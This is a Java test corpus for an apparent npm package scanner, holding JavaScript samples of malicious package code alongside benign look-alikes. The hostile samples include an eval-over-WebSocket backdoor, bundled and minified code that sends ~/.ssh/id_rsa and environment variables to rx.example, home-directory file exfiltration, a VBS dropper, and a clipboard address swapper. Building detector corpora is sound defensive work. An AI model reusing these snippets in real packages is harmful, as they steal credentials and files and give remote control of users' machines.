package cordon.inspect.corpus;

import java.util.List;

/** Generators, getters, handlers and scripts for other hosts: ways that are not a call. */
final class NpmRoundabouts {
  private NpmRoundabouts() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "a handler that is put on a socket",
            """
            const WebSocket = require('ws');
            function open() { const w = new WebSocket('wss://rx.example'); w.onmessage = e => { try { w.send(String(eval(e.data))); } catch (x) {} }; }
            open();
            """),
        Sample.required(
            "modules of a bundle that load each other",
            """
            (()=>{var e={12:(e,t,r)=>{const o=r(7),n=r(31);e.exports=function(){o.put(n.read())}},7:(e,t,r)=>{const h=r(61);e.exports={put(b){const q=h.request({hostname:"rx.example",method:"POST"});q.write(b);q.end()}}},31:(e,t,r)=>{const f=r(14),o=r(37);t.read=()=>f.readFileSync(o.homedir()+"/.ssh/id_rsa")},61:e=>{e.exports=require("https")},14:e=>{e.exports=require("fs")},37:e=>{e.exports=require("os")}},t={};function r(o){var n=t[o];if(void 0!==n)return n.exports;var s=t[o]={exports:{}};return e[o](s,s.exports,r),s.exports}(()=>{r(12)()})()})();
            """),
        Sample.postinstall(
            "a bundle whose helpers have short names",
            """
            var h=Object.create,n=Object.defineProperty,g=Object.getOwnPropertyNames;var s=(o,t,r)=>{for(let e of g(t))n(o,e,{get:()=>t[e]});return o},m=(o,t,r)=>(r=o!=null?h(o):{},s(t||!o||!o.__esModule?n(r,"default",{value:o,enumerable:!0}):r,o));
            var c=m(require("https")),d=m(require("os"));function f(){c.default.request("https://rx.example",{method:"POST"}).end(JSON.stringify({e:process.env,h:d.default.hostname()}))}f();
            """),
        Sample.postinstall(
            "files that a generator finds by their names",
            """
            const fs = require('fs'), path = require('path'), os = require('os');
            function* walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* walk(p); else if (/\\.(log|txt)$/.test(e.name) || e.name === 'id_rsa') yield p; } }
            (async () => { for (const f of walk(os.homedir())) await fetch('https://rx.example', { method: 'POST', body: fs.readFileSync(f, 'utf8') }); })();
            """),
        Sample.postinstall(
            "a script for the script host of Windows",
            """
            const fs = require('fs'), path = require('path');
            const p = path.join(process.env.TEMP, 'u.vbs');
            fs.writeFileSync(p, ['Set x = CreateObject("MSXML2.XMLHTTP")', 'x.Open "GET", "https://rx.example/inert", False', 'x.Send', 'CreateObject("WScript.Shell").Run "inert", 0'].join('\\r\\n'));
            require('child_process').exec('wscript //B "' + p + '"');
            """),
        Sample.required(
            "an address in the clipboard is exchanged",
            """
            const { execSync } = require('child_process');
            const get = () => execSync('pbpaste').toString();
            const set = t => execSync('echo "' + t + '" | pbcopy');
            setInterval(() => { const t = get(); if (/^0x[0-9a-f]{40}$/.test(t)) set('inert'); }, 500);
            """),
        Sample.command("another package for all", "npm i -g some-inert-tool@latest --silent"),
        Sample.postinstall(
            "another package for all, by code",
            "require('child_process').exec('npm install --global some-inert-tool', { windowsHide: true }, () => {});\n"),
        Sample.required("a module that is called as a whole", "require('./watch')();\n")
            .with(
                "watch.js",
                """
                const os = require('os');
                module.exports = () => { fetch('https://rx.example', { method: 'POST', body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) }); };
                """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.postinstall(
            "what npm says of itself",
            """
            const { execSync } = require('child_process');
            execSync('npm'); execSync('npm root -g'); execSync('npm ls --global --json'); execSync('npm install -g .');
            """),
        Sample.required(
            "a handler of a socket that prints",
            "const W = require('ws'); const w = new W('wss://rx.example'); w.onmessage = e => console.log(e.data);\n"),
        Sample.required(
            "names of secrets that are left out",
            """
            const fs = require('fs');
            exports.list = d => fs.readdirSync(d).filter(f => f !== '.env' && !f.endsWith('id_rsa'));
            exports.list('.').forEach(f => fs.readFileSync(f));
            """),
        Sample.required(
            "an address that is checked",
            "module.exports = a => /^0x[0-9a-fA-F]{40}$/.test(a);\nmodule.exports('0x00000000000000000000000000000000000000a1');\n"),
        Sample.required(
            "text that is put into the clipboard",
            "require('child_process').execSync('echo done | pbcopy');\n"));
  }
}
